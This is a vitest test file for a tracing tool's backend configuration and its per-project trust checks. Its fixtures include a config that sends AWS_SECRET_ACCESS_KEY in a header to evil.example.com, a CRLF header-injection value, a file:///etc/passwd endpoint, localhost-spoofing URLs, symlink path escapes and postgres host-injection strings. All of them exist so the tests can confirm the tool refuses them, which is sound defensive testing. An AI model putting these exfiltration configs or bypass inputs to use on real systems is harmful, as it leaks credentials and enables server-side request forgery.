import { chmodSync, readFileSync, statSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { expect, test } from 'vitest'
import { backendNamed, type Backend } from '../../src/project/backends.ts'
import { readConfig } from '../../src/project/config.ts'
import { sharedStoreUrl } from '../../src/project/shared-store.ts'
import { trustIn } from '../../src/project/trust.ts'
import { Fault } from '../../src/trace/fault.ts'
import { verifies } from '../verifies.ts'
import { folder, type Folder } from './folder.ts'

type Environment = Readonly<Record<string, string>>

function open(project: Folder, name: string, env: Environment = {}): Backend {
  return backendNamed(name, optionsOf(project, env))
}

function optionsOf(project: Folder, env: Environment): Parameters<typeof backendNamed>[1] {
  const config = readConfig(project.root, 'tracespec.yaml')
  return { root: project.root, config, env: { HOME: project.home, ...env } }
}

/** The Fault in a line, as a person reads it. */
function faultOf(action: () => unknown): string {
  try {
    action()
  } catch (error) {
    if (error instanceof Fault) return `${error.code}: ${error.message}`
    throw error
  }
  return 'no fault'
}

const trusted = { TRACESPEC_TRUST: '1' }

test('a backend has its address, its credentials and its tenant', () => {
  verifies('P-27')
  using project = folder(`
backends:
  prod:
    type: tempo
    endpoint: https://\${HOST}/base
    headers: { X-Team: "$\${shop}" }
    auth: { bearer: "\${TOKEN}" }
    tls: { ca: certs/ca.pem }
    tenant: shop
`)
  project.write('certs/ca.pem', '-----BEGIN CERTIFICATE-----\n')
  const { url, ...rest } = open(project, 'prod', { ...trusted, HOST: 'tempo.test', TOKEN: 't\n' })
  expect(url.href).toBe('https://tempo.test/base')
  expect(rest).toEqual({
    name: 'prod',
    kind: 'tempo',
    headers: { 'X-Team': '${shop}', 'X-Scope-OrgID': 'shop', authorization: 'Bearer t' },
    tls: { ca: '-----BEGIN CERTIFICATE-----\n', cert: undefined, key: undefined },
    timeoutMs: 30_000,
    protocol: undefined,
    database: undefined,
    table: undefined,
    isAssumed: false,
  })
})

test.for<readonly [string, string, string]>([
  ['protocol: grpc', 'grpc://127.0.0.1:16685', 'grpc'],
  ['endpoint: "grpc://127.0.0.1:1"', 'grpc://127.0.0.1:1', 'by its scheme'],
  ['protocol: grpc-v2, endpoint: "http://127.0.0.1:1"', 'http://127.0.0.1:1/', 'grpc-v2'],
  ['protocol: http-legacy', 'http://127.0.0.1:16686/', 'http-legacy'],
])('a Jaeger of %s is asked so', ([written, href, how]) => {
  using project = folder(`backends: { j: { type: jaeger, ${written} } }`)
  const { url, protocol = 'by its scheme' } = open(project, 'j')
  expect([url.href, protocol]).toEqual([href, how])
})

test('a protocol that the endpoint does not have, and gRPC of another machine, are refused', () => {
  using project = folder(`
backends:
  a: { type: jaeger, protocol: http-v3, endpoint: "grpc://127.0.0.1:1" }
  b: { type: zipkin, endpoint: "grpcs://127.0.0.1:1" }
  c: { type: jaeger, endpoint: "grpcs://jaeger.test" }
`)
  expect(['a', 'b', 'c'].map((name) => faultOf(() => open(project, name)))).toEqual([
    'USAGE: tracespec.yaml:3: the endpoint is one of gRPC, and not of http-v3',
    'USAGE: tracespec.yaml:4: the query API of zipkin is spoken over http or https',
    'NOT_TRUSTED: tracespec.yaml:5: backend c asks jaeger.test, which is not trusted',
  ])
})

test('basic credentials are those of RFC 7617', () => {
  using project = folder(
    'backends: { zipkin: { auth: { basic: { user: Aladdin, password: "open sesame" } } } }',
  )
  expect(open(project, 'zipkin').headers).toEqual({
    authorization: 'Basic QWxhZGRpbjpvcGVuIHNlc2FtZQ==',
  })
})

test.for(['jaeger', 'zipkin', 'tempo', 'clickhouse'])(
  '%s needs no configuration on this machine',
  (name) => {
    using project = folder('')
    const { url, isAssumed } = open(project, name)
    expect({ host: url.hostname, isAssumed }).toEqual({ host: '127.0.0.1', isAssumed: true })
  },
)

test.for<readonly [string, string, string]>([
  [
    'a name that no backend has',
    'backends: { prod: { type: jaeger } }',
    'USAGE: there is no backend asked',
  ],
  [
    'a variable that is not set',
    'backends: { asked: { type: jaeger, tenant: "${NONE}" } }',
    'USAGE: tracespec.yaml:1: the variable NONE is not set',
  ],
  [
    'a variable that is empty',
    'backends: { asked: { type: jaeger, tenant: "${EMPTY}" } }',
    'USAGE: tracespec.yaml:1: the variable EMPTY is empty',
  ],
  [
    'a variable with a line break',
    'backends: { asked: { type: jaeger, headers: { X-Key: "${TWO_LINES}" } } }',
    'USAGE: tracespec.yaml:1: the value of X-Key cannot stand in a header',
  ],
  [
    'a password in the address',
    'backends: { asked: { type: jaeger, endpoint: "http://a:s3cret@127.0.0.1" } }',
    'USAGE: tracespec.yaml:1: the endpoint holds a user or a password',
  ],
  [
    'a password in the address by a variable',
    'backends: { asked: { type: jaeger, endpoint: "${WITH_USER}" } }',
    'USAGE: tracespec.yaml:1: the endpoint holds a user or a password',
  ],
  [
    'a token in the query',
    'backends: { asked: { type: jaeger, endpoint: "http://127.0.0.1/?token=s3cret" } }',
    'USAGE: tracespec.yaml:1: the endpoint holds more than a host, a port and a path',
  ],
  [
    'another protocol',
    'backends: { asked: { type: jaeger, endpoint: "file:///etc/passwd" } }',
    'USAGE: tracespec.yaml:1: the endpoint is no http or https URL',
  ],
  [
    'a key outside the project',
    'backends: { asked: { type: jaeger, tls: { ca: ../home/ca.pem } } }',
    'PATH_OUTSIDE: tracespec.yaml:1: a file for TLS lies outside the project',
  ],
  [
    'a key that a link leads to outside the project',
    'backends: { asked: { type: jaeger, tls: { ca: link.pem } } }',
    'PATH_OUTSIDE: tracespec.yaml:1: a file for TLS lies outside the project',
  ],
  [
    'a key file by a variable, outside the project',
    'backends: { asked: { type: jaeger, tls: { ca: "${ABSOLUTE}" } } }',
    'PATH_OUTSIDE: tracespec.yaml:1: a file for TLS lies outside the project',
  ],
  [
    'a key file that is none',
    'backends: { asked: { type: jaeger, tls: { ca: tracespec.yaml } } }',
    'FILE_UNREADABLE: tracespec.yaml:1: the file for TLS is no PEM text',
  ],
  [
    'a key file that is not there',
    'backends: { asked: { type: jaeger, tls: { ca: none.pem } } }',
    'FILE_UNREADABLE: tracespec.yaml:1: the file for TLS is not there',
  ],
])('%s is refused, and no value is shown', ([, config, says]) => {
  verifies('P-27')
  using project = folder(config)
  writeFileSync(join(project.home, 'ca.pem'), '-----BEGIN CERTIFICATE-----')
  project.link('link.pem', join(project.home, 'ca.pem'))
  const env = {
    ...trusted,
    EMPTY: '',
    TWO_LINES: 's3cret\r\nX-More: 1',
    WITH_USER: 'http://a:s3cret@127.0.0.1',
    ABSOLUTE: join(project.home, 'ca.pem'),
  }
  expect(faultOf(() => open(project, 'asked', env))).toBe(says)
})

const hostile = `
backends:
  jaeger:
    endpoint: https://evil.example.com
    headers: { X-Key: "\${AWS_SECRET_ACCESS_KEY}" }
`

test('a cloned project gets no variable and reaches no other host', () => {
  verifies('P-27')
  using project = folder(hostile)
  expect(faultOf(() => open(project, 'jaeger', { AWS_SECRET_ACCESS_KEY: 's3cret' }))).toBe(
    'NOT_TRUSTED: tracespec.yaml:4: backend jaeger sends ${AWS_SECRET_ACCESS_KEY} to evil.example.com, which is not trusted',
  )
})

test.for<readonly [string, boolean]>([
  ['http://127.0.0.1:1', true],
  ['http://127.255.0.9', true],
  ['http://[::1]:1', true],
  ['http://localhost:1', true],
  ['http://LOCALHOST', true],
  ['http://0x7f.1', true],
  ['http://localhost.evil.com', false],
  ['http://127.0.0.1.evil.com', false],
  ['http://localhost@evil.com', false],
  ['http://localhost\\@evil.com', true],
  ['http:\\\\evil.com', false],
  ['http:evil.com', false],
  [' \thttp://evil.com', false],
  ['http://evil.com#@localhost', false],
  ['http://127.0.0.1\u3002evil.com', false],
  ['http://evil.localhost', false],
  ['http://0.0.0.0', false],
  ['http://10.0.0.1', false],
  ['http://[::ffff:10.0.0.1]', false],
])('%j stays on this machine: %s', ([endpoint, isLocal]) => {
  using project = folder(`backends: { jaeger: { endpoint: ${JSON.stringify(endpoint)} } }`)
  const asked = faultOf(() => open(project, 'jaeger'))
  expect(asked.startsWith('NOT_TRUSTED')).toBe(!isLocal)
})

test.for<readonly [string, string]>([
  [
    'a merge',
    'backends:\n  zipkin: &x\n    type: jaeger\n    tenant: "${SECRET}"\n  jaeger:\n    <<: *x\n',
  ],
  [
    'an alias',
    'backends:\n  zipkin: &x\n    type: jaeger\n    tenant: "${SECRET}"\n  jaeger: *x\n',
  ],
  ['escapes', 'backends:\n  jaeger:\n    tenant: "\\x24\\u007bSECRET\\x7d"\n'],
  ['a folded text', 'backends:\n  jaeger:\n    tenant: >-\n      ${SECRET}\n'],
  ['a flow text over lines', 'backends: {jaeger: {tenant: "${SEC\\\n  RET}"}}\n'],
])('a variable that is written by %s needs trust', ([, config]) => {
  using project = folder(config)
  expect(faultOf(() => open(project, 'jaeger', { SECRET: 's3cret' }))).toMatch(
    /^NOT_TRUSTED: .* sends \$\{SECRET\} to this machine, which is not trusted$/,
  )
})

test('trust holds for the configuration that was seen, and for that project alone', () => {
  verifies('P-27')
  using project = folder(hostile)
  const env = { AWS_SECRET_ACCESS_KEY: 's3cret' }
  trustIn(optionsOf(project, env)).grant()
  expect(open(project, 'jaeger', env).headers).toEqual({ 'X-Key': 's3cret' })
  project.write('tracespec.yaml', `# a comment\n${hostile}`)
  expect(open(project, 'jaeger', env).headers).toEqual({ 'X-Key': 's3cret' })

  project.write('tracespec.yaml', hostile.replace('evil.example.com', 'worse.example.com'))
  expect(faultOf(() => open(project, 'jaeger', env))).toBe(
    'NOT_TRUSTED: tracespec.yaml:4: backend jaeger sends ${AWS_SECRET_ACCESS_KEY} to worse.example.com, which is not trusted; it has changed since it was trusted',
  )
  project.write('tracespec.yaml', `${hostile}  zipkin: { tenant: "\${HOME}", type: jaeger }\n`)
  expect(faultOf(() => open(project, 'jaeger', env))).toContain('it has changed')

  project.write('tracespec.yaml', hostile)
  trustIn(optionsOf(project, env)).revoke()
  expect(faultOf(() => open(project, 'jaeger', env))).toContain('NOT_TRUSTED')
})

test('the same configuration in another folder is not trusted', () => {
  using project = folder(hostile)
  using clone = folder(hostile)
  const env = { HOME: project.home, AWS_SECRET_ACCESS_KEY: 's3cret' }
  trustIn(optionsOf(project, env)).grant()
  expect(faultOf(() => open(clone, 'jaeger', env))).toContain('NOT_TRUSTED')
})

test('a link in place of the configuration counts by what it leads to', () => {
  using project = folder(hostile)
  const env = { AWS_SECRET_ACCESS_KEY: 's3cret' }
  trustIn(optionsOf(project, env)).grant()
  project.write('other.yaml', hostile.replace('evil', 'worse'))
  unlinkSync(join(project.root, 'tracespec.yaml'))
  symlinkSync('other.yaml', join(project.root, 'tracespec.yaml'))
  expect(faultOf(() => open(project, 'jaeger', env))).toContain('it has changed')
})

test('what is trusted is kept for the user alone, outside the project', () => {
  using project = folder(hostile)
  trustIn(optionsOf(project, {})).grant()
  const file = join(project.home, '.config/tracespec/trust.json')
  expect(statSync(file).mode & 0o777).toBe(0o600)
  expect(statSync(join(file, '..')).mode & 0o777).toBe(0o700)
  expect(Object.keys(JSON.parse(readFileSync(file, 'utf8')).projects)).toEqual([project.root])
})

test.for<readonly [string, (project: Folder) => Environment]>([
  [
    'lies in the project',
    (project) => {
      project.write('config/tracespec/trust.json', '{}')
      return { XDG_CONFIG_HOME: join(project.root, 'config') }
    },
  ],
  [
    'lies in the project by a link',
    (project) => {
      project.write('config/trust.json', '{}')
      symlinkSync(join(project.root, 'config'), join(project.home, 'tracespec'))
      return { XDG_CONFIG_HOME: project.home }
    },
  ],
  [
    'can be written by others',
    (project) => {
      trustIn(optionsOf(project, {})).grant()
      chmodSync(join(project.home, '.config/tracespec/trust.json'), 0o666)
      return {}
    },
  ],
  ['has no place', () => ({ HOME: '' })],
  ['has a place that depends on where it is asked', () => ({ HOME: 'here', XDG_CONFIG_HOME: '.' })],
])('a file of what is trusted that %s trusts nothing', ([, prepare]) => {
  using project = folder(hostile)
  expect(faultOf(() => open(project, 'jaeger', prepare(project)))).toContain('NOT_TRUSTED')
})

test('a home that cannot be written in is a clear message', () => {
  using project = folder(hostile)
  writeFileSync(join(project.home, '.config'), 'a file')
  const options = optionsOf(project, {})
  expect(faultOf(() => trustIn(options).grant())).toMatch(
    /^FILE_UNREADABLE: .*trust\.json cannot be written: E(EXIST|NOTDIR)$/,
  )
})

test.for<readonly [string, boolean]>([
  ['postgres://127.0.0.1/traces', true],
  ['postgres://a:${PASSWORD}@127.0.0.1/traces', false],
  ['postgres://db.example.com/traces', false],
  ['postgres://127.0.0.1,evil.com/traces', false],
  ['postgres://127.0.0.1/traces?host=evil.com', false],
  ['host=evil.com', false],
])('a store at %s is opened without trust: %s', ([store, isOpened]) => {
  using project = folder(`store: ${JSON.stringify(store)}`)
  const fault = faultOf(() => sharedStoreUrl(optionsOf(project, { PASSWORD: 's3cret' })))
  expect(fault === 'no fault').toBe(isOpened)
  expect(fault.startsWith('NOT_TRUSTED')).toBe(!isOpened)
})

test('a store that is trusted has its variables', () => {
  using project = folder('store: "postgres://a:${PASSWORD}@db/traces"')
  const options = optionsOf(project, { ...trusted, PASSWORD: 's3cret' })
  expect(sharedStoreUrl(options)).toBe('postgres://a:s3cret@db/traces')
})
